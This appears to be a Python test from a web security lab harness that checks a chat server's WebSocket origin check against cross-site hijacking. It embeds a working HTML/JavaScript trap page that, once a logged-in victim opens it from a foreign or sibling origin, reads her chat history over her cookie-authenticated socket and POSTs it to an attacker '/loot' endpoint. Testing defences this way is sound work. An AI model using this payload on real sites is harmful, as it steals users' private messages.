"""Alice, logged in, opens a page of the attacker, which reads her chat with her cookie and sends it home."""

from lab.harness import Outcome, Target

BROWSER = True
BY_HAND = False
WHY = "An exact list in `check_origin`, and browsers always say where a page is from."
TRAIL = frozenset({"malicious_cors"})

LOG_IN = """body => fetch("/auth/login", {
    method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify(body),
}).then(answer => answer.status)"""

TRAP = """<!doctype html><title>You have won</title><script>
const home = text => fetch("/loot", {method: "POST", body: text});
const socket = new WebSocket("WS/ws/chat");
socket.onopen = () => socket.send('{"type":"history"}');
socket.onmessage = event => home(event.data);
socket.onclose = event => home("closed " + event.code);
</script>"""


async def legitimate(target: Target) -> None:
    async with target.connect("/ws/chat", session=await target.login("alice")) as socket:
        history = await socket.ask({"type": "history"})
        assert "Monday" in history["lines"][1]


async def attack(target: Target) -> Outcome:
    target.hostile.pages["/win"] = TRAP.replace("WS", target.ws)
    said = ""
    async with target.browser() as profile:
        page = await profile.new_page()
        await page.goto(f"{target.http}/")
        alice = {"username": "alice", "password": target.users["alice"]}
        target.write("alice", ">", "logs in with her browser")
        status = await page.evaluate(LOG_IN, alice)
        target.write("alice", "<", f"{status}")
        for place in (target.hostile.foreign, target.hostile.sibling):
            target.write("alice", ">", f"opens {place}/win")
            await page.goto(f"{place}/win")
            said = await target.hostile.looted(5) or "nothing was sent home"
            target.write("attacker", "<", f"POST /loot: {said}")
            if "Monday" in said:
                return target.outcome(True, f"a page of {place} read: {said}")
            target.hostile.forget_loot()
    return target.outcome(False, f"all that the page got: {said}")
